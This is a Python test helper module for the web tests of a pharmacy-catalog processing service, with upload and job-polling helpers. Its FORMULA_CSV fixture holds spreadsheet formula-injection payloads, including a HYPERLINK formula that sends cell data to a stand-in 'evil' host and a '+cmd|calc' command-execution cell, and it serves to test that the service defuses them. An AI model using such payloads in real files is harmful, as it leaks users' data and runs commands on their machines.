"""Shared by the web tests: the sample, the check date, waiting for a job."""

from __future__ import annotations

import time
from datetime import date
from pathlib import Path
from typing import Any

from starlette.testclient import TestClient

SAMPLES = Path(__file__).resolve().parents[2] / "sample_catalogs"
PHARMACY = SAMPLES / "pharmacy_catalog_gbk.csv"
PHARMACY_XLSX = SAMPLES / "pharmacy_catalog.xlsx"
AS_OF = date(2026, 11, 23)

# A catalog whose cells would run as formulas in a spreadsheet.
FORMULA_CSV = (
    '商品编码,通用名称,规格,生产企业,医保编码,类别,=HYPERLINK("http://x")\n'
    '=1+1,"=HYPERLINK(""http://evil/""&A1)",@SUM(A1),+cmd|calc,,西药,-2+3\n'
    "B2,阿莫西林胶囊,-5,\tfoo,,西药,ok\n"
).encode()


def upload(client: TestClient, name: str, body: bytes, **params: str) -> Any:
    query = {"name": name, "policy": "national", "as_of": AS_OF.isoformat(), **params}
    return client.post("/api/jobs", params=query, content=body)


def wait(client: TestClient, job_id: str, timeout: float = 60.0) -> dict[str, Any]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        status: dict[str, Any] = client.get(f"/api/jobs/{job_id}").json()
        if status["state"] in ("done", "failed"):
            return status
        time.sleep(0.1)
    raise AssertionError(f"job {job_id} did not finish")
